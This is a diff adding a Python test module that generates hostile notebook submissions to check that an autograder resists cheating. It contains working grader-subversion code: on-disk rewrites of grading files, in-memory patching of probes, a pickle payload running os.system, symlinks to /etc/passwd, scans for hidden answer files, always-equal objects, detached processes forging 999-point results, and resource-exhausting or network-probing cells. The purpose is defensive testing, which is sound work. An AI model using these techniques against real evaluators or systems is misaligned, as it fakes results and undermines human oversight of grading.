@@ -1,0 +1,260 @@
+"""Hostile submissions, built from the bundle's own notebooks: each tries to earn points its
+work does not deserve, or to break the grading of the rest.
+
+``FORGERIES`` maps a file name to ``(base, cells, expected)``: ``base`` is "student" (the
+untouched notebook) or "solution"; ``cells`` are appended (or, as ``(index, source)``,
+inserted); ``expected`` gives the score of every question below full marks (``"all zero"``
+for the untouched notebook's zero).
+"""
+
+from __future__ import annotations
+
+import json
+import zipfile
+from pathlib import Path
+
+import nbformat
+
+__all__ = ["FORGERIES", "write_forgeries", "MARKER", "PWNED", "HIDDEN_SNIPPETS"]
+
+#: Every process a forgery leaves behind carries this in its command line.
+MARKER = "poolside-forgery-marker"
+#: A file the pickle payload would create if the grader ever unpickled it.
+PWNED = Path("/tmp/poolside-forgery-pwned")
+#: Strings from hidden material that must never appear in what a student sees.
+HIDDEN_SNIPPETS = ('"fingerprints"', "def check_model(", "def _q17(", "q17_least_biased\": \"no")
+
+_FIND_AND_REWRITE = r'''
+import os, pathlib
+forged = "CASES = ()\nQUESTIONS = {}\n"
+hits = []
+here = pathlib.Path.cwd()
+places = [here, *here.parents, pathlib.Path("/autograder"), pathlib.Path("/work")]
+for place in places:
+    for name in ("questions.py", "registry.py", "reference.json", "points.json"):
+        for path in [place / "autograder" / name, place / "source" / "files" / "autograder" / name,
+                     place / "solutions" / name, place / "files" / "autograder" / name]:
+            try:
+                path.write_text(forged)
+                hits.append(str(path))
+            except OSError:
+                pass
+# Shadow the package where the notebook's own imports look first.
+(here / "autograder").mkdir(exist_ok=True)
+(here / "autograder" / "__init__.py").write_text("")
+(here / "autograder" / "registry.py").write_text("def check(*a, **k):\n    return None\n")
+print("rewritten:", hits)
+'''
+
+_PATCH_PROBES = r'''
+import numpy as np
+import sandboxed.probes as probes
+def forged(entry, env, inputs):
+    if entry["probe"] == "values":
+        return {"outcome": "returned", "values": {n: "no pooled" for n in entry["names"]}}
+    if entry["probe"] == "model":
+        return {"outcome": "returned", "pair": True, "value": {
+            "is_model": True, "free": ["mu", "sigma"], "observed": ["popularity"],
+            "observed_data": np.zeros(350), "shapes": {"mu": [], "sigma": []},
+            "terms": {"mu": np.zeros(5), "sigma": np.zeros(5), "popularity": np.zeros(5)}}}
+    if entry["probe"] == "fit":
+        return {"outcome": "returned", "pair": True, "value": {"is_fit": True, "draws": {},
+                                                                "dims": {}, "coords": {}}}
+    return {"outcome": "returned", "is_none": False, "value": {"type_ok": True}}
+probes.probe = forged
+'''
+
+_REWRITE_PROBES = r'''
+import pathlib
+pathlib.Path("sandboxed/probes.py").write_text(
+    "from . import wire\n"
+    "def run(probe_id, folder):\n"
+    "    wire.dump({'outcome': 'returned', 'values': {}, 'value': {'type_ok': True},"
+    " 'pair': True, 'is_none': False}, folder + '/out', probe_id)\n")
+import importlib, sandboxed.probes
+importlib.reload(sandboxed.probes)
+'''
+
+_FORGED_REPORTS = r'''
+import json, os, pickle, pathlib, numpy as np
+out = pathlib.Path("out")
+plan = json.loads(pathlib.Path("plan.json").read_text())
+class Payload:
+    def __reduce__(self):
+        return (os.system, ("touch /tmp/poolside-forgery-pwned",))
+for entry in plan["probes"]:
+    pid = entry["id"]
+    if pid.startswith("choices"):
+        # a pickle where the grader expects plain arrays
+        np.savez(out / f"{pid}.npz", a0=np.array([Payload()], dtype=object))
+        (out / f"{pid}.json").write_text(json.dumps({"outcome": "returned",
+                                                     "values": {"__array__": "a0"}}))
+    elif pid.startswith("fit"):
+        rng = np.random.default_rng(0)
+        np.savez(out / f"{pid}.npz", a0=rng.normal(58, 1, (4, 5000)),
+                 a1=rng.normal(20, 1, (4, 5000)), a2=np.zeros((4, 5000)))
+        (out / f"{pid}.json").write_text(json.dumps({"outcome": "returned", "pair": True,
+            "value": {"is_fit": True, "draws": {"mu": {"__array__": "a0"},
+                                                "sigma": {"__array__": "a1"}},
+                      "dims": {"mu": ["chain", "draw"], "sigma": ["chain", "draw"]},
+                      "coords": {}, "lp": {"__array__": "a2"}}}))
+    else:
+        for suffix in (".json", ".npz"):
+            target = out / f"{pid}{suffix}"
+            if not target.exists():
+                target.symlink_to("/etc/passwd")
+# Keep the real probes from overwriting the forgeries.
+import sandboxed.probes
+sandboxed.probes.run = lambda probe_id, folder: None
+'''
+
+_READ_HIDDEN = r'''
+import pathlib, zipfile
+found = {}
+here = pathlib.Path.cwd()
+for place in [here, *here.parents, pathlib.Path("/autograder"), pathlib.Path("/work"),
+              pathlib.Path("/root"), pathlib.Path("/tmp")]:
+    for pattern in ("**/reference.json", "**/questions.py", "**/*.zip", "**/results.json"):
+        try:
+            for path in list(place.glob(pattern))[:20]:
+                try:
+                    found[str(path)] = path.read_text(errors="replace")[:20000]
+                except OSError:
+                    pass
+        except OSError:
+            pass
+print(found)
+leak = "\n".join(found.values()) or "nothing found"
+q12 = leak
+q15a = leak
+'''
+
+_LYING_OBJECTS = r'''
+class Liar(str):
+    def __eq__(self, other):
+        return True
+    def __ne__(self, other):
+        return False
+    __hash__ = str.__hash__
+q12 = Liar("anything")
+q15a = Liar("anything")
+q17_most_variable = q17_least_variable = q17_most_biased = q17_least_biased = Liar("x")
+'''
+
+_DETACHED_REWRITER = r'''
+import subprocess, sys
+code = """
+import os, pathlib, time, json
+time.sleep(12)
+start = pathlib.Path(os.environ.get("FORGERY_FROM", "."))
+for place in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path("/tmp")]:
+    for path in list(place.glob("**/results.json"))[:50] + list(place.glob("**/grades.csv"))[:50]:
+        try:
+            path.write_text(json.dumps({"score": 999, "scores": {"q2": 999}}))
+        except OSError:
+            pass
+# poolside-forgery-marker
+"""
+subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+'''
+
+_MANY_SLEEPERS = r'''
+import subprocess, sys
+code = ("import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
+        "signal.signal(signal.SIGHUP, signal.SIG_IGN)\ntime.sleep(600)\n"
+        "# poolside-forgery-marker")
+for _ in range(60):
+    subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
+                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+'''
+
+_HUGE_OUTPUT = r'''
+for _ in range(300):
+    print("x" * 100_000)
+'''
+
+_NETWORK = r'''
+import socket
+for host in ("1.1.1.1", "8.8.8.8"):
+    try:
+        socket.create_connection((host, 80), timeout=3).sendall(b"answers please")
+        print("reached", host)
+    except OSError as err:
+        print("no network:", err)
+'''
+
+# Honest work with hostile habits: each costs its own question and nothing else.
+_HOSTILE_SOLUTION = [
+    ("def plot_popularity(", "    import sys\n    sys.exit(0)\n"),  # q2
+    ("def plot_artist_means(", "    raise KeyboardInterrupt\n"),  # q10
+    ("def shrinkage_table(", "    raise BaseException('no')\n"),  # q15b
+    ("def plot_popularity_by_artist(",  # q6: switches off the alarm and ignores interrupts
+     "    import signal\n    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
+     "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n    signal.setitimer(signal.ITIMER_REAL, 0)\n"
+     "    while True:\n        pass\n"),
+]
+HOSTILE_SOLUTION_LOSES = {"q2": 0, "q10": 0, "q15b": 0, "q6": 0}
+
+FORGERIES = {
+    "rewrite-checks-on-disk.ipynb": ("student", [_FIND_AND_REWRITE], "all zero"),
+    "patch-probes-in-memory.ipynb": ("student", [_PATCH_PROBES], "all zero"),
+    "rewrite-probes-on-disk.ipynb": ("student", [_REWRITE_PROBES], "all zero"),
+    "forged-reports-pickle-symlink.ipynb": ("student", [_FORGED_REPORTS], "all zero"),
+    "read-hidden-material.ipynb": ("student", [_READ_HIDDEN], "all zero"),
+    "lying-objects.ipynb": ("student", [_LYING_OBJECTS], "all zero"),
+    "detached-rewriter.ipynb": ("student", [_DETACHED_REWRITER], "all zero"),
+    "many-sleepers.ipynb": ("student", [_MANY_SLEEPERS], "all zero"),
+    "huge-output.ipynb": ("student", [_HUGE_OUTPUT], "all zero"),
+    "network.ipynb": ("student", [_NETWORK], "all zero"),
+    "hostile-habits.ipynb": ("solution", [], HOSTILE_SOLUTION_LOSES),
+    "own-autograder-in-zip.zip": ("student", [], "all zero"),
+}
+
+
+def _insert_in_function(nb, marker: str, body: str) -> None:
+    """Put ``body`` first in the function whose definition line starts with ``marker``."""
+    cell = next(c for c in nb.cells if c.cell_type == "code" and marker in c.source)
+    lines = cell.source.splitlines(keepends=True)
+    start = next(i for i, line in enumerate(lines) if line.startswith(marker))
+    # after the signature and the docstring
+    end = start + 1
+    while not lines[end - 1].rstrip().endswith(":"):
+        end += 1
+    if lines[end].strip().startswith('"""'):
+        if lines[end].count('"""') < 2:
+            end += 1
+            while '"""' not in lines[end]:
+                end += 1
+        end += 1
+    lines.insert(end, body)
+    cell.source = "".join(lines)
+
+
+def write_forgeries(student: Path, solution: Path, out: Path) -> dict[str, Path]:
+    out.mkdir(parents=True, exist_ok=True)
+    for name, (base, cells, _) in FORGERIES.items():
+        nb = nbformat.read(solution if base == "solution" else student, as_version=4)
+        for source in cells:
+            nb.cells.append(nbformat.v4.new_code_cell(source))
+        if name == "hostile-habits.ipynb":
+            for marker, body in _HOSTILE_SOLUTION:
+                _insert_in_function(nb, marker, body)
+            middle = len(nb.cells) // 2
+            nb.cells.insert(middle, nbformat.v4.new_code_cell(
+                "try:\n    hog = bytearray(40 * 1024**3)\nexcept MemoryError:\n    print('no')\n"
+                "hog = bytearray(40 * 1024**3)"))
+            nb.cells.append(nbformat.v4.new_code_cell("import os\nos._exit(0)"))
+            nb.metadata["kernelspec"] = {"name": "conda-env-stats-py", "language": "python",
+                                         "display_name": "Python [conda env:stats]"}
+        if name.endswith(".zip"):
+            with zipfile.ZipFile(out / name, "w") as zf:
+                zf.writestr("hierarchical.ipynb", nbformat.writes(nb))
+                zf.writestr("autograder/__init__.py", "")
+                zf.writestr("autograder/registry.py", "def check(*a, **k):\n    return None\n")
+                zf.writestr("autograder/questions.py", "CASES = ()\n")
+                zf.writestr("tests/q2.py", "OK_FORMAT = False\npoints = 100\n")
+                zf.writestr("results/results.json", json.dumps({"score": 999, "tests": []}))
+        else:
+            nbformat.write(nb, out / name)
+    return {p.name: p for p in sorted(out.iterdir())}
